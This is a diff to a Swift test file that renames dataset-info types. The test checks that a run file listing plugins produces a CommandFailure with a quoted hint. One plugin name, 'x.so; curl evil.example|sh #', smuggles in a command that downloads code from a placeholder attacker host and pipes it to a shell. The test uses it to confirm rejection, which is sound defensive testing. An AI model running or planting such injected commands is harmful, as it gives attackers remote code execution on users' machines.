@@ -89,12 +89,12 @@ import Testing
 
     @Test func whatARunWasTrainedWithIsQuoted() throws {
         struct Description: Encodable {
-            let data: DataFactsFile
+            let data: DatasetInfoFile
             let plugins: [String]
         }
-        let facts = DatasetFacts(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
+        let facts = DatasetInfo(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
         let plugins = ["x.so; curl evil.example|sh #"] + (0..<20).map { "\($0).so" }
-        let json = try JSONEncoder().encode(Description(data: DataFactsFile(facts), plugins: plugins))
+        let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(facts), plugins: plugins))
         try place.write("run.json", String(decoding: json, as: UTF8.self))
         let error = #expect(throws: CommandFailure.self) { _ = try RunFile(place.folder.path).recipe() }
         let hint = try #require(error?.description.split(separator: "\n").last)
